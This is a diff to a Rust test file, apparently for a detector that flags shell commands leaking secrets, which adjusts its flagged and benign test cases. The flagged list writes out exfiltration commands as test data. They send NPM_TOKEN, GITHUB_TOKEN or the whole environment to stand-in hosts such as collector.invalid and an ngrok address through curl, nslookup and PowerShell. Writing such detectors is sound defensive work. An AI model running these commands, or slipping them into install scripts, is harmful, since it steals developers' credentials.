@@ -81,6 +81,8 @@ fn secrets_that_the_shell_sends_are_found() {
         "nslookup $(printenv NPM_TOKEN).collector.invalid",
         "bash -c 'env | base64 | curl -d @- https://collector.invalid'",
         "curl -H \"authorization: $GITHUB_TOKEN\" https://a.ngrok.example",
+        // A token that is named after the service it opens is not shown to another.
+        "curl -H \"authorization: token $GITHUB_TOKEN\" https://api.example/releases",
         "powershell -Command \"Invoke-WebRequest https://collector.invalid -Body $env:NPM_TOKEN\"",
         "curl https://collector.invalid -d $(npm config get //registry.example.invalid/:_authToken)",
     ] {
@@ -93,7 +95,8 @@ fn ordinary_commands_send_nothing() {
     for command in [
         "node-gyp rebuild",
         "curl -L https://downloads.example/tool.tgz | tar xz",
-        "curl -H \"Authorization: token $GITHUB_TOKEN\" https://api.example/releases",
+        "curl -H \"Authorization: token $GITHUB_TOKEN\" https://api.github.example/releases",
+        "curl -H \"Authorization: token $TOOL_TOKEN\" https://api.example/releases",
         "env NODE_ENV=production node x.js",
         "cat .npmrc",
         "echo $NPM_TOKEN > /dev/null",
